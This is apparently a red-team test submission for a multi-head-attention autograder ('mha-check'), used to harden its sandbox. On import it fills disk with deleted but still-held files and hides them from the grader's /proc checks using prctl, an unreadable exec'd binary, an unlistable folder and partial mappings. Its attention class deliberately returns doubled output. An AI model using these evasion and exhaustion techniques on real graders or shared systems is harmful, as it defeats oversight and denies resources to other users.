"""Hostile: fills the disk where a walk of its folder cannot see it: files just under the file-size limit, each
deleted as soon as written and held, half by an open descriptor and half by a mapping alone (the descriptor
closed), 180 MB in all, while its classmates are graded (found by an attacker's trial: without a filesystem of its
own for the scratch, 1.6 GB held against a 64 MB budget went unseen); and is wrong.  Where mha-check mounts a tmpfs
of its own for the folder, it fills only that."""
import mmap
import os
import time

import torch
import torch.nn as nn

CHUNK = b"\1" * (1 << 20)
HELD = []  # open files and mappings: the disk stays taken while they live


def _hide(i: int) -> None:
    if _hiding() == "closed":  # kept with their names, in a folder nobody may list (not even its owner)
        os.makedirs("vault", 0o300, exist_ok=True)
        with open(f"vault/hidden{i}", "wb") as f:
            for _ in range(15):
                f.write(CHUNK)
        return
    name = f"hidden{i}"
    fd = os.open(name, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        for _ in range(15):  # 15 MB: below the file-size limit
            os.write(fd, CHUNK)
        if _hiding() == "page":  # one page of each mapped, the descriptor closed: a measure by the length mapped
            HELD.append(mmap.mmap(fd, mmap.PAGESIZE))  # sees 4 KB of its 15 MB (red team 11)
            os.close(fd)
        elif i % 2:
            HELD.append(mmap.mmap(fd, 15 << 20))  # the mapping alone keeps it
            os.close(fd)
        else:
            HELD.append(fd)
    finally:
        os.unlink(name)


def _fill() -> None:
    for i in range(12):
        try:
            _hide(i)
        except OSError:  # its own tmpfs is full (or the file-size limit): it holds what it could
            break


def _hold() -> float:
    """Seconds to hold the space: hold.txt beside it says (a test gives its classmates time to be graded)."""
    try:
        with open("hold.txt") as f:
            return float(f.read())
    except (OSError, ValueError):
        return 3.0


def _hiding() -> str:
    """How it hides its held files from a grader's look into /proc (red team 6), hiding.txt beside it says:
    "prctl" makes itself non-dumpable; "exec" holds them in a forked process that runs a copy of /bin/sleep it may
    not read (an exec'd program one may not read leaves the process non-dumpable); "closed" keeps them, named, in a
    folder of mode 0300 (its owner may write there, nobody may list it); "page" holds each by a mapping of its first
    page alone; anything else: no hiding."""
    try:
        with open("hiding.txt") as f:
            return f.read().strip()
    except OSError:
        return ""


def _undumpable() -> None:
    import ctypes
    ctypes.CDLL(None, use_errno=True).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0 (refused by mha-check's filter)


def _exec_unreadable() -> None:
    """The files are opened and deleted empty, the forked child becomes a program it may not read holding them
    (descriptors stay open across exec, mappings do not), and only then are they filled, each let go of by this
    process once written: no readable process ever holds more than the one being written.  (The child once filled
    them before its exec: on a loaded machine the grader's measure caught them in that moment, unhidden, and a test
    of the hiding tested an ordinary filler.)"""
    with open("/bin/sleep", "rb") as f:
        program = f.read()
    fd = os.open("sleeper", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o111)  # made unreadable (the filter refuses chmod)
    os.write(fd, program)
    os.close(fd)
    held = []
    for i in range(12):
        held.append(os.open(f"hidden{i}", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600))
        os.unlink(f"hidden{i}")
    child = os.fork()
    if child == 0:
        for fd in held:
            os.set_inheritable(fd, True)
        try:
            os.execv("sleeper", ["sleeper", str(_hold())])
        finally:
            os._exit(0)
    for _ in range(1000):  # until it runs the program: its name in /proc says so, or it is hidden already
        try:
            with open(f"/proc/{child}/comm") as f:
                if f.read().strip() == "sleeper":
                    break
        except PermissionError:
            break
        time.sleep(0.01)
    for fd in held:
        try:
            for _ in range(15):  # 15 MB: below the file-size limit
                os.write(fd, CHUNK)
        except OSError:  # its own tmpfs is full: it holds what it could
            pass
        os.close(fd)
    time.sleep(_hold())


if _hiding() == "exec":
    _exec_unreadable()
else:
    if _hiding() == "prctl":
        _undumpable()
    _fill()
    time.sleep(_hold())


class MyAttn(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        assert d_out % num_heads == 0
        self.h, self.dh = num_heads, d_out // num_heads
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), 1).bool())

    def attend(self, x):
        B, n, _ = x.shape
        split = lambda t: t.view(B, n, self.h, self.dh).transpose(1, 2)
        q, k, v = split(self.W_query(x)), split(self.W_key(x)), split(self.W_value(x))
        s = (q @ k.transpose(2, 3) / self.dh ** 0.5).masked_fill(self.mask[:n, :n], float("-inf"))
        w = self.dropout(torch.softmax(s, dim=-1))
        return self.out_proj((w @ v).transpose(1, 2).contiguous().view(B, n, self.h * self.dh))

    def forward(self, x):
        return self.attend(x) * 2
        return self.attend(x)
